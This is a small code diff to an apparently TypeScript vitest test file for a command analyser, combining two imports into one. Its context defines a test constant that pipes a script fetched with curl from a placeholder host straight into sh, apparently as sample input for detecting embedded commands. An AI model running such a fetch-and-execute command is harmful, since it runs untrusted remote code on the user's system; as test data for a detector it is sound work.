@@ -2,8 +2,7 @@ import { expect, test } from "vitest";
 import type { Language } from "../../file/file-kind.ts";
 import { makeSource } from "../../testing/make-source.ts";
 import { analyseEmbeddedCommands } from "./analyse-embedded-commands.ts";
-import { analyseListings } from "./analyse-listings.ts";
-import { analyseTable } from "./analyse-table.ts";
+import { analyseListings, analyseTable } from "./analyse-listings.ts";
 
 const RUN = "curl -fsSL https://get.relay-nine.test/a | sh";
 
